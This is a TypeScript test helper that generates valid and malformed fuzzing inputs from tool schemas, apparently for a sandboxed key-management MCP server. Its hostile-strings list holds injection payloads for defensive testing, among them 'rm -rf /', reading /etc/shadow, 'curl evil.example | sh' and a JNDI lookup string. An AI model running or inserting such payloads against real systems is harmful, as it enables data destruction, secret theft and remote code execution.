/**
 * fast-check arbitraries derived from a tool's input schema (via z.toJSONSchema), so every tool in
 * ALL_TOOLS is fuzzed without a hand-written generator: `validArbitrary` builds values that match
 * the JSON Schema, `malformedArbitrary` breaks one spot of such a value (wrong type, missing
 * required field, unknown key, hostile or oversized string, out-of-range number, bad element).
 * The JSON Schema omits refinements, so callers filter with the real zod schema.
 */
import fc from 'fast-check';
import { z } from 'zod';
import { AWS_ACCOUNT, AWS_KEYS } from '../../src/sandbox/seed.js';

/** The JSON Schema subset z.toJSONSchema emits for the tool inputs. */
export interface JsonSchema {
  type?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  propertyNames?: JsonSchema;
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  minimum?: number;
  maximum?: number;
  minItems?: number;
  maxItems?: number;
}

/** The input schema of a tool as JSON Schema (input side: defaults make fields optional). */
export function inputJsonSchema(input: z.ZodType): JsonSchema {
  return z.toJSONSchema(input, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
}

const HUGE = 100_000;

/** Strings an attacker or a confused agent might send: injection, traversal, control characters, unicode. */
export const HOSTILE_STRINGS: readonly string[] = [
  "'; DROP TABLE clusters; --",
  "Robert'); DROP TABLE students;--",
  '../../etc/passwd',
  '..\\..\\windows\\system32',
  '$(rm -rf /)',
  '`id`',
  'prod-east; rm -rf /',
  'prod-east && curl evil.example | sh',
  '| cat /etc/shadow',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%2e%2e%2f%2e%2e%2f',
  '__proto__',
  'constructor',
  '\u0000',
  'prod-east\u0000',
  'a\u0000b',
  '\u0007\b\t\n\r\u001b[31mred',
  '\r\nX-Injected: 1',
  '\u202eeliforp',
  'prod\u200beast',
  'ｐｒｏｄ－ｅａｓｔ',
  'İstanbul',
  '🔑🔥',
  '\ud800',
  '',
  ' ',
];

/** 100 KB strings, some shaped like valid values. */
export const OVERSIZE_STRINGS: readonly string[] = [
  'a'.repeat(HUGE),
  `prod-east${'-x'.repeat(HUGE / 2)}`,
  'é'.repeat(HUGE),
  '\u0000'.repeat(HUGE),
  `/${'a/'.repeat(HUGE / 2)}ca.crt`,
];

/** Key URIs that are wrong for the sandbox clusters or for their provider. */
export const BAD_KEY_URIS: readonly string[] = [
  // Foreign-region AWS keys (the seeded clusters run in us-east-1 / us-west-2 / eu-west-1 / us-east-2).
  `arn:aws:kms:eu-central-1:${AWS_ACCOUNT}:key/${AWS_KEYS.wrongRegion.id}`,
  `arn:aws:kms:ap-southeast-2:${AWS_ACCOUNT}:key/${AWS_KEYS.prodEastUsEast1.id}`,
  `arn:aws-cn:kms:cn-north-1:${AWS_ACCOUNT}:key/${AWS_KEYS.prodEastUsEast1.id}`,
  `arn:aws:kms:us-east-1:12345:key/${AWS_KEYS.prodEastUsEast1.id}`,
  `arn:aws:iam::${AWS_ACCOUNT}:role/crdb-cmek-prod-east`,
  'arn:aws:kms:us-east-1:111122223333:alias/../../x',
  'arn:aws:kms:::key/',
  // Malformed GCP names.
  'projects//locations/us-central1/keyRings/r/cryptoKeys/k',
  'projects/p/locations/us-central1/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1',
  'projects/p/keyRings/r/cryptoKeys/k',
  'gcp-kms://projects/p/locations/global/keyRings/r/cryptoKeys/k',
  // Malformed Azure ids.
  'https://acme-crdb-kv.vault.azure.net/keys/payments-cmek',
  'http://acme-crdb-kv.vault.azure.net/keys/payments-cmek/7c1e4a9b2d3f40a58e6b9c0d1f2a3b4c',
  'https://evil.example/keys/a/b',
  '/subscriptions/00000000/resourceGroups/../providers/Microsoft.KeyVault/vaults/v',
];

/** Numbers outside most ranges, including the deletion windows KMS providers refuse. */
export const BAD_NUMBERS: readonly number[] = [
  0,
  -1,
  3,
  6,
  31,
  366,
  1e9,
  -1e9,
  1.5,
  7.5,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  Number.NEGATIVE_INFINITY,
  Number.MAX_SAFE_INTEGER + 2,
  -0.0001,
];

const anyJson = fc.jsonValue({ maxDepth: 2 });

/** Values of every JSON kind (plus NaN/Infinity), for wrong-type mutations. */
const everyKind: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY),
  fc.boolean(),
  fc.constant(null),
  fc.string({ maxLength: 8 }),
  fc.constantFrom('true', 'false', '7', '1e9', 'null', '[]', '{}'),
  fc.array(anyJson, { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 6 }), anyJson, { maxKeys: 3 }),
  fc.constant([{}]),
);

function kindOf(value: unknown): string {
  if (value === null) return 'null';
  if (Array.isArray(value)) return 'array';
  if (typeof value === 'number') return Number.isFinite(value) ? (Number.isInteger(value) ? 'integer' : 'number') : 'nonfinite';
  return typeof value;
}

/** JSON types a node accepts ('number' accepts integers too). */
function acceptedKinds(node: JsonSchema): Set<string> {
  if (node.anyOf) return new Set(node.anyOf.flatMap((option) => [...acceptedKinds(option)]));
  if (node.enum) return new Set(node.enum.map(kindOf));
  if (node.const !== undefined) return new Set([kindOf(node.const)]);
  if (node.type === 'number') return new Set(['number', 'integer']);
  return node.type ? new Set([node.type]) : new Set(['string', 'integer', 'number', 'boolean', 'null', 'array', 'object']);
}

/** A value of some JSON kind this node does not accept. */
function wrongKind(node: JsonSchema): fc.Arbitrary<unknown> {
  const accepted = acceptedKinds(node);
  return everyKind.filter((value) => !accepted.has(kindOf(value)));
}

/** Values that match the JSON Schema node (refinements aside). */
export function validArbitrary(node: JsonSchema): fc.Arbitrary<unknown> {
  if (node.const !== undefined) return fc.constant(node.const);
  if (node.enum) return fc.constantFrom(...node.enum);
  if (node.anyOf) return fc.oneof(...node.anyOf.map(validArbitrary));
  switch (node.type) {
    case 'string': {
      const min = node.minLength ?? 0;
      const max = node.maxLength ?? Math.max(min, 24);
      if (node.pattern) {
        return fc.stringMatching(new RegExp(node.pattern)).filter((s) => s.length >= min && s.length <= max);
      }
      return fc.string({ minLength: min, maxLength: Math.min(max, min + 24) });
    }
    case 'integer':
      return fc.integer({ min: node.minimum ?? -1000, max: node.maximum ?? 1000 });
    case 'number':
      return fc.double({ min: node.minimum ?? -1000, max: node.maximum ?? 1000, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const min = node.minItems ?? 0;
      return fc.array(node.items ? validArbitrary(node.items) : anyJson, { minLength: min, maxLength: Math.min(node.maxItems ?? min + 2, min + 2) });
    }
    case 'object':
      return validObject(node);
    default:
      return anyJson;
  }
}

function validObject(node: JsonSchema): fc.Arbitrary<Record<string, unknown>> {
  if (node.properties) {
    const shape = Object.fromEntries(Object.entries(node.properties).map(([key, value]) => [key, validArbitrary(value)]));
    return fc.record(shape, { requiredKeys: node.required ?? [] }) as fc.Arbitrary<Record<string, unknown>>;
  }
  if (typeof node.additionalProperties === 'object') {
    const keys = node.propertyNames ? (validArbitrary(node.propertyNames) as fc.Arbitrary<string>) : fc.string({ minLength: 1, maxLength: 8 });
    return fc.dictionary(keys, validArbitrary(node.additionalProperties), { minKeys: 1, maxKeys: 2 });
  }
  return fc.constant({});
}

/**
 * Unknown keys: plain, typo'd, prototype-looking and hostile. Not `__proto__`: the MCP SDK's
 * request schema drops that key from `arguments` before any tool sees it, so it is ignored, not refused.
 */
const unknownKey = fc.oneof(
  fc.constantFrom(
    'dryRun',
    'DRY_RUN',
    'force',
    'confirm',
    'yes',
    'admin',
    'constructor',
    'toString',
    'hasOwnProperty',
    "'; DROP TABLE x; --",
    '../x',
    'k\u0000',
  ),
  fc.stringMatching(/^[a-z][a-z_]{2,12}$/),
);

/** A string that breaks the node: hostile, oversize, empty, or off-pattern. */
function badString(node: JsonSchema): fc.Arbitrary<unknown> {
  const options: fc.Arbitrary<unknown>[] = [
    fc.constantFrom(...HOSTILE_STRINGS),
    fc.constantFrom(...OVERSIZE_STRINGS),
    fc.constantFrom(...BAD_KEY_URIS),
    wrongKind(node),
  ];
  if (node.maxLength !== undefined) options.push(fc.constant('z'.repeat(node.maxLength + 1)));
  if (node.pattern || node.enum) options.push(fc.string({ maxLength: 12 }));
  if (node.enum)
    options.push(
      fc.constantFrom(...node.enum.filter((v): v is string => typeof v === 'string').flatMap((v) => [v.toUpperCase(), v.toLowerCase(), ` ${v}`, `${v}\u0000`])),
    );
  return fc.oneof(...options);
}

function badNumber(node: JsonSchema): fc.Arbitrary<unknown> {
  const edges = [...BAD_NUMBERS];
  if (node.minimum !== undefined) edges.push(node.minimum - 1);
  if (node.maximum !== undefined) edges.push(node.maximum + 1);
  return fc.oneof(fc.constantFrom(...edges), wrongKind(node), fc.constantFrom('7', '30', ''));
}

/**
 * Values that break `node` at one spot (possibly deep inside a valid value). Not every draw is
 * invalid (a hostile string may fit a free-form field): filter with the real schema.
 */
export function malformedArbitrary(node: JsonSchema, depth = 4): fc.Arbitrary<unknown> {
  if (node.anyOf) {
    return fc.oneof(wrongKind(node), ...(depth > 0 ? node.anyOf.map((option) => malformedArbitrary(option, depth - 1)) : []));
  }
  if (node.enum || node.const !== undefined) return badString(node);
  switch (node.type) {
    case 'string':
      return badString(node);
    case 'integer':
    case 'number':
      return badNumber(node);
    case 'boolean':
      return fc.oneof(wrongKind(node), fc.constantFrom('true', 'false', 0, 1, 'yes'));
    case 'array':
      return malformedArray(node, depth);
    case 'object':
      return malformedObject(node, depth);
    default:
      return fc.constantFrom(...HOSTILE_STRINGS, ...OVERSIZE_STRINGS);
  }
}

function malformedArray(node: JsonSchema, depth: number): fc.Arbitrary<unknown> {
  const item = node.items ? validArbitrary(node.items) : anyJson;
  const options: fc.Arbitrary<unknown>[] = [wrongKind(node), fc.constant({ 0: 'x' })];
  if ((node.minItems ?? 0) > 0) options.push(fc.constant([]));
  if (node.maxItems !== undefined) options.push(fc.array(item, { minLength: node.maxItems + 1, maxLength: node.maxItems + 1 }));
  if (node.items && depth > 0) {
    const bad = malformedArbitrary(node.items, depth - 1);
    options.push(
      fc.tuple(validArbitrary(node), bad, fc.nat()).map(([items, badItem, at]) => {
        const copy = [...(items as unknown[])];
        copy.splice(at % (copy.length + 1), 0, badItem);
        return copy;
      }),
    );
  }
  return fc.oneof(...options);
}

function malformedObject(node: JsonSchema, depth: number): fc.Arbitrary<unknown> {
  const base = validObject(node);
  const options: fc.Arbitrary<unknown>[] = [wrongKind(node)];
  if (node.properties) {
    for (const key of node.required ?? []) {
      options.push(base.map((value) => Object.fromEntries(Object.entries(value).filter(([k]) => k !== key))));
    }
    if (depth > 0) {
      for (const [key, child] of Object.entries(node.properties)) {
        options.push(fc.tuple(base, malformedArbitrary(child, depth - 1)).map(([value, bad]) => ({ ...value, [key]: bad })));
      }
    }
    if (node.additionalProperties === false) {
      options.push(
        fc
          .tuple(base, unknownKey, anyJson)
          .map(([value, key, extra]) => Object.defineProperty({ ...value }, key, { value: extra, enumerable: true, configurable: true, writable: true })),
      );
    }
  } else if (typeof node.additionalProperties === 'object') {
    const values = validArbitrary(node.additionalProperties);
    options.push(fc.array(fc.tuple(fc.string(), fc.string()), { maxLength: 2 }));
    if (node.propertyNames) {
      const badKey = badString(node.propertyNames).filter((key): key is string => typeof key === 'string');
      options.push(fc.tuple(badKey, values).map(([key, value]) => ({ [key]: value })));
    }
    if (depth > 0) {
      const keys = node.propertyNames ? (validArbitrary(node.propertyNames) as fc.Arbitrary<string>) : fc.string({ minLength: 1, maxLength: 8 });
      options.push(fc.tuple(keys, malformedArbitrary(node.additionalProperties, depth - 1)).map(([key, bad]) => ({ [key]: bad })));
    }
  }
  return fc.oneof(...options);
}

/** The top-level paths (or unknown keys) zod reports for a failed parse, to check the message names them. */
export function reportedFields(error: z.ZodError): string[] {
  return error.issues.flatMap((issue) => {
    if (issue.code === 'unrecognized_keys') return issue.keys;
    const head = issue.path[0];
    return head === undefined ? [] : [String(head)];
  });
}
